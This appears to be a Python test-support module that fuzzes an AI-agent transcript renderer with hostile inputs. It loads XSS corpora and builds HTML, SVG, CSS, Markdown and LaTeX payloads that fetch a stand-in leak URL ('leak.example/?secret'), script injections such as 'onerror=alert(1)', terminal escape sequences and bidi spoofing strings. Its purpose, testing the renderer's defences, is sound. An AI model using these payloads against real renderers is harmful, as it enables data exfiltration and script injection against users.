"""Attacks: hostile texts, and transcripts that have them in every field that a renderer can
show.
"""

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from samples import OTHER_KINDS, sample

from nbagent import events as e
from nbagent.transcript import Transcript

CORPORA = Path(__file__).parents[1] / "corpora"
SHORT = 80
"""Payloads of at most this many characters are tried at every prefix."""

MIMES = (
    "text/html",
    "image/svg+xml",
    "image/png",
    "text/markdown",
    "application/json",
    "text/plain",
    "text/latex",
)


def corpus(path: str) -> Any:
    """Return a corpus by its path under tests/corpora."""
    return json.loads((CORPORA / path).read_text("utf-8"))


def payloads() -> list[str]:
    """Return the XSS and URL corpora, and ways to fetch a resource without a script, which they
    lack.
    """
    scripts = [
        case["payload"]
        for name in ("dompurify_expect", "h5sc")
        for case in corpus(f"xss/{name}.json")
    ]
    scripts += [
        "".join(cell["source"]) for cell in corpus("xss/jupyter_notebook_xss.ipynb.json")["cells"]
    ]
    urls = [url for list_ in corpus("urls/rehype_harden_urls.json") for url in list_["urls"]]
    links = [
        made
        for url in urls
        for made in (url, f"[x]({url})", f"![x](<{url}>)", f"<{url}>", f"[x][r]\n\n[r]: <{url}>")
    ]
    return list(dict.fromkeys([*scripts, *links, *LEAKS]))


SVG = "http://www.w3.org/2000/svg"
LEAK = "https://leak.example/?secret"
LEAKS = [
    f"![x]({LEAK})",
    f"![x][r]\n\n[r]: {LEAK}",
    f"[![x]({LEAK})]({LEAK})",
    f"<{LEAK}>",
    f"see {LEAK} and www.leak.example and me@leak.example",
    f'<a href="{LEAK}" ping="{LEAK}">x</a>',
    f'<img srcset="{LEAK} 1x, {LEAK} 2x">',
    f'<picture><source srcset="{LEAK}"><img src="{LEAK}"></picture>',
    f'<link rel="preload" as="image" href="{LEAK}"><link rel="dns-prefetch" href="//leak.example">',
    (
        f'<link rel=stylesheet href="{LEAK}"><style>@import "{LEAK}"; * {{background: '
        f"url({LEAK})}}</style>"
    ),
    (
        f'<table class="dataframe" style="background: url({LEAK})" background="{LEAK}"><tr><td '
        f'style="content: url({LEAK})">1'
    ),
    (
        f'<td style="--x: url({LEAK}); background: var(--x); list-style: url({LEAK}); cursor: '
        f'url({LEAK}), auto">x'
    ),
    f"<p style=\"background-image: image-set('{LEAK}' 1x); border-image: url({LEAK}) 1\">x</p>",
    f'<svg xmlns="{SVG}"><image href="{LEAK}"/><use href="{LEAK}#x"/></svg>',
    (
        f'<svg xmlns="{SVG}"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" '
        f'src="{LEAK}"/></foreignObject></svg>'
    ),
    (
        f'<svg xmlns="{SVG}"><style>* {{fill: url({LEAK}#f)}}</style><rect width="9" '
        'height="9"/></svg>'
    ),
    (
        f'<svg xmlns="{SVG}" onload="alert(1)"><script>alert(1)</script><a href="{LEAK}"><rect '
        'width="9"/></a></svg>'
    ),
    f'<?xml-stylesheet href="{LEAK}"?><svg xmlns="{SVG}"/>',
    f'<video poster="{LEAK}" src="{LEAK}"><track src="{LEAK}"></video><audio src="{LEAK}"></audio>',
    (
        f'<iframe src="{LEAK}" srcdoc="<img src={LEAK}>"></iframe><object '
        f'data="{LEAK}"></object><embed src="{LEAK}">'
    ),
    f'<meta http-equiv="refresh" content="0; url={LEAK}"><base href="{LEAK}">',
    (
        f'<form action="{LEAK}"><input name=x autofocus onfocus=alert(1)><button '
        f'formaction="{LEAK}">x</button></form>'
    ),
    f'<input type=image src="{LEAK}"><body background="{LEAK}">',
    f'<math><mtext href="{LEAK}"><img src="{LEAK}"></mtext></math>',
    f"$\\includegraphics{{{LEAK}}}$ $\\href{{{LEAK}}}{{x}}$ $$\\url{{{LEAK}}}$$",
    f"```html\n<img src={LEAK}>\n```\n\n```svg\n<svg onload=alert(1)>\n```",
    "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<template shadowrootmode=open><slot></slot><script>alert(1)</script></template>",
    "</pre></code></div></section><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</details></div></style></title></textarea></noscript><img src=x onerror=alert(1)>",
]


def prefixes() -> list[str]:
    """Return every proper prefix of the short payloads, as seen while they stream, without
    duplicates.
    """
    short = [text for text in payloads() if len(text) <= SHORT]
    return list(dict.fromkeys(text[:length] for text in short for length in range(1, len(text))))


def naughty() -> list[str]:
    """Return strings that break programs: known ones, decoded invalid UTF-8, and control sequences
    of terminals.
    """
    decoded = [case["expected_replace"] for case in corpus("unicode/utf8tests.json")]
    return list(dict.fromkeys([*corpus("unicode/blns.json"), *decoded, *CONTROLS, *LONG]))


CONTROLS = [
    "\x1b[31mred\x1b[0m \x1b[1;38;5;208mbold\x1b[m",
    "\x1b]0;title\x07 \x1b]8;;https://leak.example\x1b\\link\x1b]8;;\x1b\\ \x1b]52;c;c2VjcmV0\x07",
    "\x1b[2J\x1b[H\x1b[?1049h\x1b7\x1b8\x1bc\x1b(B\x9b31m",
    "50 %\r100 %\r\n\x08\x07\x00\x0b\x0c\x7f\x85",
    "access = 'user\u202e \u2066// Check if admin\u2069 \u2066'",
    "photo\u202egpj.exe",
    "\u202babc\u202a def \u2067ghi\u2068 jkl \u202dmno",
    "\u05e9\u05dc\u05d5\u05dd 123 (abc) \u05e2\u05d5\u05dc\u05dd!",
    "\ud800 \udfff \ud83d",
]
LONG = [
    "w" * 100_000,
    "\u0915\u094d" * 2000,
    "Z" + "\u0301\u0323\u0489" * 200,
    "\u200b" * 2000,
    "\n" * 2000,
    "(" * 2000,
    "\U0001f3f3\ufe0f\u200d\U0001f308" * 500,
]


def transcript_saying(text: str, *, live: bool = False) -> Transcript:
    """Return a transcript with `text` in every field, all its panels open.

    Args:
        text: content of the fields.
        live: leave the run, its text, its thought and one tool's arguments unfinished, as while
            they stream.
    """
    transcript = Transcript(text, started=1.0)
    for event in events_saying(text, live=live):
        transcript.feed(event)
    for block in list(transcript.blocks):
        transcript.toggle(block, True)
    return transcript


def schema_saying(text: str) -> dict[str, Any]:
    """Return a JSON Schema with `text` wherever one may have a text."""
    fields = {"title": text, "description": text, "default": text, "examples": [text]}
    named = {
        text or "x": {"type": "string", "pattern": text, "format": text, **fields},
        "value": {
            "anyOf": [
                {"type": "integer", **fields},
                {"const": text},
                {"enum": [text]},
                {"$ref": f"#/$defs/{text}"},
            ]
        },
        "list": {"type": "array", "items": {"enum": [text, text]}, **fields},
        "more": {"type": text, **fields},
    }
    return {
        "type": "object",
        "properties": named,
        "required": [text, "value"],
        "$defs": {text: {"type": text}},
        **fields,
    }


def events_saying(text: str, *, live: bool = False) -> Iterator[e.Event]:
    """Yield the events of that transcript."""
    yield e.RunStart(ts=1, name=text, model=text)
    files = [
        {"media_type": text, "url": text, "name": text},
        {"media_type": "image/png", "data": text},
        {"url": text},
    ]
    yield e.Prompt(
        ts=1,
        text=text,
        files=[*files, {"url": f"https://a.example/{text}", "media_type": "image/png"}],
    )
    yield e.Status(ts=1, message=text)
    yield e.Status(ts=1, message=text, level="warning")
    yield e.ReasoningStart(ts=1, id="thought")
    yield e.ReasoningDelta(ts=1, id="thought", delta=text)
    yield e.TextStart(ts=2, id="answer")
    yield e.TextDelta(ts=2, id="answer", delta=text)
    yield e.TextStart(ts=2, id="refusal", kind="refusal")
    yield e.TextDelta(ts=2, id="refusal", delta=text)
    yield e.ToolStart(ts=2, id="writing", name=text, call_id=text)
    yield e.ToolArgsDelta(ts=2, id="writing", delta=text)
    if not live:
        yield e.ReasoningEnd(ts=3, id="thought")
        yield e.TextEnd(ts=3, id="answer")
        yield e.TextEnd(ts=3, id="refusal")
        yield e.ToolArgs(ts=3, id="writing", args_text=text, args=text, valid=False)
    yield e.ToolStart(ts=3, id="progress", name="tool", title=text)
    yield e.ToolArgs(
        ts=3,
        id="progress",
        args={text or "x": text, "list": [text, {text or "x": text}]},
        args_text=text,
    )
    yield e.ToolProgress(ts=3, id="progress", message=text, progress=1, total=2)
    for number, mime in enumerate(MIMES):
        yield e.ToolStart(ts=3, id=f"mime-{number}", name=text)
        yield e.ToolArgs(ts=3, id=f"mime-{number}", args={"x": text}, args_text=text)
        payload = {text or "x": text, "in": [text]} if mime == "application/json" else text
        yield e.ToolResult(
            ts=4,
            id=f"mime-{number}",
            content=text,
            display=e.Display(summary=text, data={mime: payload}),
        )
    yield e.ToolStart(ts=3, id="result", name=text)
    yield e.ToolResult(ts=4, id="result", content=text)
    yield e.ToolStart(ts=3, id="failed", name=text)
    error = e.ErrorInfo(type=text, message=text, traceback=text)
    yield e.ToolResult(ts=4, id="failed", status="error", error=error)
    yield e.ToolStart(ts=3, id="denied", name=text)
    yield e.ToolResult(ts=4, id="denied", status="denied", error=error)
    yield e.ToolStart(ts=3, id="asked", name=text)
    yield e.ApprovalRequest(
        ts=4,
        approval_id="1",
        tool_id="asked",
        prompt=text,
        args={text or "x": text},
        options=[text],
    )
    yield e.ApprovalRequest(
        ts=4, approval_id="2", kind="input", prompt=text, options=[text], schema={"title": text}
    )
    yield e.ApprovalResponse(ts=4, approval_id="2", decision="deny", reason=text)
    about: dict[str, Any] = {
        "args": {text or "x": text, "value": 1, "list": [text]},
        "schema": schema_saying(text),
        "reply": e.Live(None),
    }
    yield e.ToolStart(ts=3, id="answerable", name=text)
    yield e.ApprovalRequest(
        ts=4, approval_id="3", tool_id="answerable", prompt=text, can_remember=True, **about
    )
    yield e.ApprovalRequest(
        ts=4, approval_id="4", kind="input", options=[text, "b"], reply=e.Live(None)
    )
    yield e.ApprovalRequest(
        ts=4,
        approval_id="5",
        kind="input",
        prompt=text,
        schema=schema_saying(text),
        reply=e.Live(None),
    )
    for number, args in enumerate(
        ({"url": text}, {"url": f"https://a.example/{text}"}, {"url": f"https://{text}/"})
    ):
        yield e.ApprovalRequest(
            ts=4,
            approval_id=f"auth-{number}",
            kind="auth",
            prompt=text,
            args=args,
            reply=e.Live(None),
        )
    yield e.ApprovalRequest(ts=4, approval_id="6", args={text or "x": 1, "y": text})
    yield e.ApprovalResponse(
        ts=4, approval_id="6", decision="approve", value={"y": text * 2}, reason=text, remember=True
    )
    yield e.ToolStart(ts=3, id="printing", name=text)
    yield e.ToolOutput(ts=3, id="printing", delta=text)
    yield e.AgentStart(ts=4, id="agent", name=text)
    yield e.TextDelta(ts=4, id="inner", delta=text, parent_id="agent")
    yield e.AgentHandoff(ts=4, to=text, from_=text)
    for number, url in enumerate((text, f"https://a.example/{text}", f"https://{text}/")):
        yield e.Source(ts=4, id=f"source-{number}", url=url, title=text)
        yield e.Source(ts=4, id=f"untitled-{number}", url=url)
        yield e.File(ts=4, id=f"file-{number}", media_type=text, url=url, name=text)
    yield e.File(ts=4, id="data", media_type="text/html", data=text, name=text)
    for media_type in ("image/png", "image/svg+xml"):
        yield e.File(
            ts=4,
            id=media_type,
            media_type=media_type,
            data=base64.b64encode(text.encode(errors="replace")).decode(),
            name=text,
        )
        yield e.File(ts=4, id=f"raw-{media_type}", media_type=media_type, data=text, name=text)
    yield e.Error(ts=4, message=text, code=text, error_type=text, traceback=text)
    yield e.Custom(ts=4, name=text, data={text or "x": text})
    yield e.Raw(ts=4, name=text, data=text)
    yield from (sample(kind.event, text, ts=4) for kind in OTHER_KINDS)
    if not live:
        yield e.RunEnd(ts=5, status="failed", finish_reason=text, code=text)
